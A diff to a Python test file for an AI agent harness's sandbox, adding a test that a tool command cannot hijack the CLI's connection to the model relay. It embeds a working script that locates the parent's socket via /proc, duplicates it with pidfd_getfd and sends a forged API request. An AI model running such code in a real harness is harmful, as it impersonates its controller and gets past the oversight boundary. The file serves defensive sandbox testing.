@@ -162,6 +162,55 @@ def test_a_program_of_the_installation_run_by_a_tool_command_is_refused(cli, age
         ws.close()
 
 
+#: A tool command's attack (``steal.py PORT BODY``): find the connection to the relay that the process
+#: above it (the CLI) holds, take a duplicate of it (``pidfd_getfd``; all of the sandbox runs as one
+#: user) and send a forged request on it, as the CLI.
+STEAL = """\
+import ctypes, os, socket, sys, time
+port, body = int(sys.argv[1]), open(sys.argv[2], "rb").read()
+libc = ctypes.CDLL(None, use_errno=True)
+ours = set()
+for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+    for row in open(table).read().splitlines()[1:]:
+        fields = row.split()
+        if int(fields[2].rsplit(":", 1)[1], 16) == port and fields[3] == "01":  # established, to the relay
+            ours.add("socket:[%s]" % fields[9])
+pid = os.getppid()
+while pid > 1:
+    for fd in os.listdir("/proc/%d/fd" % pid):
+        try:
+            if os.readlink("/proc/%d/fd/%s" % (pid, fd)) not in ours:
+                continue
+        except OSError:
+            continue
+        got = libc.syscall(438, os.pidfd_open(pid), int(fd), 0)
+        if got < 0:
+            sys.exit("pidfd_getfd on the CLI's connection: " + os.strerror(ctypes.get_errno()))
+        socket.socket(fileno=got).sendall(
+            b"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Type: application/json\\r\\nx-api-key: a\\r\\n"
+            b"anthropic-version: 2023-06-01\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body) + body)
+        time.sleep(2)
+        sys.exit("sent on the CLI's connection")
+    pid = int(open("/proc/%d/stat" % pid).read().rsplit(")", 1)[1].split()[1])
+sys.exit("no connection of the CLI to the relay")
+"""
+
+
+def test_a_tool_command_cannot_take_the_clis_own_connection(agents, stub_env, tmp_path):
+    (tmp_path / "env").mkdir()
+    (tmp_path / "env" / "steal.py").write_text(STEAL)
+    ws, result, requests = attack(f"python3 /workspace/steal.py {PROXY_PORT} /workspace/forged.json", stub_env,
+                                  tmp_path)
+    try:
+        assert result.harness_error is None, result.stderr[-2000:]
+        assert not forged_reached_the_model(requests)
+        (bash,) = result.trajectory.calls_to("Bash")
+        assert "pidfd_getfd on the CLI's connection: Operation not permitted" in bash.result.content
+        assert result.final_text == REAL_ANSWER and refused(result) == []
+    finally:
+        ws.close()
+
+
 def test_malformed_relay_json_crashes_nothing(agents, stub_env, tmp_path):
     ws, result, requests = attack(f"{POST} -d '{{\"messages\": 5}}' {RELAY}; echo sent", stub_env, tmp_path)
     try:
